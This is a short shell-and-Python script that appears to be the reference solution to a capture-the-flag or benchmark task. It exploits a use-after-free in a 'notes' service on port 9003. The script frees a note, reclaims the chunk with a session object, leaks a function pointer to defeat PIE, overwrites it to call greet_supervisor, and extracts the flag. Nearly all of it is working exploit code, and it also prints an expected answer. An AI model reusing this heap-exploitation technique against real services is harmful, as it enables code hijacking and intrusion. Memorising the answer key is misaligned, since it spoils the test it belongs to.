#!/bin/bash
# Use-after-free: a deleted note keeps its data pointer; the 32-byte session
# object reuses the freed chunk (tcache), `show` leaks greet_operator (PIE
# base), `edit` replaces it with greet_supervisor, `greet` calls it.
set -e
cd "$HOME"
sh build.sh
python3 - <<'PY'
import re, socket, struct, subprocess
nm = subprocess.run(["nm", "notes"], capture_output=True, text=True).stdout
sym = lambda n: int(re.search(r"^([0-9a-f]+) T %s$" % n, nm, re.M).group(1), 16)
op, sup = sym("greet_operator"), sym("greet_supervisor")
print("answer[1]: 0x%x" % sup)
s = socket.create_connection(("notes", 9003), timeout=10)
f = s.makefile("rwb", buffering=0)
def until(tok):
    out = b""
    while not out.endswith(tok):
        c = f.read(1)
        if not c:
            raise SystemExit("eof: %r" % out[-200:])
        out += c
    return out
until(b"log> ")
s.sendall(b"new 32\n" + b"N" * 32); until(b"log> ")
s.sendall(b"delete 0\n"); until(b"log> ")
s.sendall(b"login mallory\n"); until(b"log> ")
s.sendall(b"show 0\n"); until(b"(32 bytes) ---\n")
leak = f.read(32)
until(b"log> ")
base = struct.unpack("<Q", leak[24:32])[0] - op
s.sendall(b"edit 0\n"); until(b"bytes\n")
s.sendall(leak[:24] + struct.pack("<Q", base + sup)); until(b"log> ")
s.sendall(b"greet\n")
out = until(b"log> ")
print(re.search(rb"flag\{[0-9a-f]+\}", out).group(0).decode())
PY
